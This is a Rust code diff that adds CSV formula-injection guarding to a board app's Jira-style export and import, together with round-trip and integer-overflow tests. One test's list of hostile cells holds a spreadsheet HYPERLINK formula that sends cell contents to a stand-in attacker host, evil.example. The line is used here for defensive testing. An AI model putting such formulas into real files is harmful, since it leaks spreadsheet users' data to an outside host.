@@ -98,6 +98,28 @@ pub fn import_json(current: &BoardState, text: &str) -> Result<(BoardState, Impo
 
 const JIRA_DATE: &str = "YYYY-MM-DD HH:MM";
 
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, carriage return at
+/// the start) gets a `'` in front, which spreadsheets show as text; a cell already starting
+/// with `'` gets one too, so [`unguard`] gives back exactly what was written.
+fn guard(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => std::borrow::Cow::Owned(format!("'{cell}")),
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
+}
+
+/// The reverse of [`guard`] on import: one `'` before a formula character or another `'` goes.
+fn unguard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) => rest,
+        _ => cell,
+    }
+}
+
+fn write_row(w: &mut csv::Writer<Vec<u8>>, row: &[String]) {
+    w.write_record(row.iter().map(|c| guard(c).into_owned())).expect("writing to memory");
+}
+
 /// The issues as CSV with Jira's column names.
 pub fn export_csv(s: &BoardState) -> String {
     let labels = s.cards.iter().map(|c| c.labels.len()).max().unwrap_or(0).max(1);
@@ -120,7 +142,7 @@ pub fn export_csv(s: &BoardState) -> String {
         ];
         row.extend(std::iter::repeat_n(String::new(), labels));
         row.extend([String::new(), e.title.clone(), String::new(), dates::format_timestamp(e.created_at), dates::format_timestamp(e.updated_at)]);
-        w.write_record(&row).expect("writing to memory");
+        write_row(&mut w, &row);
     }
     for c in &s.cards {
         let mut row = vec![
@@ -134,7 +156,7 @@ pub fn export_csv(s: &BoardState) -> String {
         ];
         row.extend((0..labels).map(|i| c.labels.get(i).cloned().unwrap_or_default()));
         row.extend([c.epic.clone().unwrap_or_default(), String::new(), sprint_name(c.sprint), dates::format_timestamp(c.created_at), dates::format_timestamp(c.updated_at)]);
-        w.write_record(&row).expect("writing to memory");
+        write_row(&mut w, &row);
     }
     String::from_utf8(w.into_inner().expect("flushing to memory")).expect("CSV of UTF-8 strings")
 }
@@ -291,7 +313,7 @@ pub fn import_csv(current: &BoardState, text: &str, now: i64) -> Result<(BoardSt
             continue;
         }
         let mut err = |why: String| errors.push(format!("line {line}: {why}"));
-        let get = |f: Field| cols.iter().filter(|(_, x)| *x == f).map(|(i, _)| record.get(*i).unwrap_or("")).collect::<Vec<_>>();
+        let get = |f: Field| cols.iter().filter(|(_, x)| *x == f).map(|(i, _)| unguard(record.get(*i).unwrap_or(""))).collect::<Vec<_>>();
         let one = |f: Field| get(f).into_iter().next();
         let has = |f: Field| seen.contains(&f);
 
@@ -684,5 +706,58 @@ mod tests {
         // Numbers of the board's own prefix are kept when free.
         let (s, _) = import_csv(&BoardState::new("shop", 1), "Issue key,Summary\nSHP-40,A\n,B\n", 2).unwrap();
         assert_eq!(s.cards.iter().map(|c| c.key.as_str()).collect::<Vec<_>>(), ["SHP-40", "SHP-41"]);
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_kept_as_text_and_come_back_unchanged() {
+        let mut b = BoardState::new("shop", 1);
+        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "'=already quoted", "'plain quote", "fine = text"];
+        for t in hostile {
+            b.add_card(CardInput { title: t.into(), description: t.into(), assignee: Some(t.into()), labels: vec![t.replace(' ', "_")], ..Default::default() }, Actor::User, 2).unwrap();
+        }
+        let text = export_csv(&b);
+        let mut r = csv::Reader::from_reader(text.as_bytes());
+        let mut cells = 0;
+        for rec in r.records() {
+            for cell in rec.unwrap().iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}\n{text}");
+                cells += 1;
+            }
+        }
+        let (back, _) = import_csv(&BoardState::new("shop", 1), &text, 3).unwrap();
+        assert_eq!(back.cards.len(), hostile.len());
+        for (c, orig) in back.cards.iter().zip(&b.cards) {
+            // Titles and names are trimmed when a card is made; what the board held comes back.
+            assert_eq!((&c.title, &c.description, &c.assignee, &c.labels), (&orig.title, &orig.description, &orig.assignee, &orig.labels), "round trip");
+        }
+        assert!(b.cards.iter().any(|c| c.description.starts_with('\t')) && b.cards.iter().any(|c| c.title.starts_with('=')));
+        // A Jira file's own quote-guarded cell reads as the text it stands for.
+        let (j, _) = import_csv(&BoardState::new("shop", 1), "Summary\n'=1+1\n'hello\n", 3).unwrap();
+        assert_eq!(j.cards.iter().map(|c| c.title.as_str()).collect::<Vec<_>>(), ["=1+1", "'hello"]);
+        println!("hostile CSV cells written as text: {cells} cells, {} formulas tried", hostile.len());
+    }
+
+    #[test]
+    fn numbers_near_the_end_of_u32_are_refused_not_a_panic() {
+        let b = sample();
+        for big in [u32::MAX, u32::MAX - 1, super::super::ops::MAX_NUMBER + 1] {
+            let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
+            v["cards"][0]["number"] = serde_json::json!(big);
+            v["cards"][0]["key"] = serde_json::json!(format!("SHP-{big}"));
+            let e = import_json(&b, &v.to_string()).unwrap_err();
+            assert!(e.why.contains("larger than a board's largest"), "{big}: {e}");
+            let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
+            v["sprints"][0]["number"] = serde_json::json!(big);
+            v["cards"][0]["sprint"] = serde_json::json!(big);
+            v["cards"][2]["sprint"] = serde_json::json!(big);
+            assert!(import_json(&b, &v.to_string()).is_err(), "sprint {big}");
+            if big > super::super::ops::MAX_NUMBER + 1 {
+                let mut v: serde_json::Value = serde_json::from_str(&export_json(&b)).unwrap();
+                v["board"]["nextNumber"] = serde_json::json!(big);
+                assert!(import_json(&b, &v.to_string()).is_err(), "next number {big}");
+            }
+            let e = import_csv(&b, &format!("Issue key,Summary\nSHP-{big},A\n"), 9).unwrap_err();
+            assert!(e.why.contains("is not a key like SLP-12"), "{e}");
+        }
     }
 }
